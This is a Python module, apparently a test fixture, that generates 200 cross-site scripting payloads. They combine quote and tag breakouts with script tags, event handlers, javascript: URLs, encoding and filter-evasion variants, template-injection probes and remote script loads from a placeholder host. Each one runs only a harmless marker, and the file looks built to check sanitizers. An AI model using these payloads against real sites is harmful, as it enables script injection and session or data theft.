"""200 texts that would run as a script somewhere, if a page let one of them through."""

from __future__ import annotations

from itertools import product

RUN = "window.__hit=1"
_BREAKS = ("", '"', "'", "`", '">', "'>", "-->", "</title>", "</textarea>", "]]>")
_VECTORS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<math><mi xlink:href=javascript:{RUN}>",
    f"<style>@import 'javascript:{RUN}'</style>",
    f"<body onload={RUN}>",
    f"<video><source onerror={RUN}>",
    f" onmouseover={RUN} autofocus onfocus={RUN} x=",
    f"<use href='data:image/svg+xml,<svg onload={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<base href=javascript:{RUN}//>",
    f"<form action=javascript:{RUN}><button autofocus>",
)
_OTHERS = (
    f"javascript:{RUN}",
    f"[x](javascript:{RUN})",
    f"![x](x\"onerror=\"{RUN})",
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}",
    f"{{{{ {RUN} }}}}",
    "{{ 7*7 }}{% raw %}",
    "{{ self.__init__.__globals__ }}",
    f"${{{RUN}}}",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\u2028<script>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<img src=x onerror\t=\n{RUN}>",
    f"<<script>{RUN}//<</script>",
    f"';{RUN};//",
    f"\";{RUN};//",
    f"*/{RUN}/*",
    f"--><script>{RUN}</script><!--",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</svg><script>{RUN}</script>",
    f"</code></pre><script>{RUN}</script>",
    "<script src=//other.example.com/x.js></script>",
    "<img src=//other.example.com/x.png>",
    "<link rel=stylesheet href=//other.example.com/x.css>",
)  # fmt: skip
PAYLOADS = tuple(dict.fromkeys([*_OTHERS, *(f"{a}{b}" for a, b in product(_BREAKS, _VECTORS))]))[
    :200
]
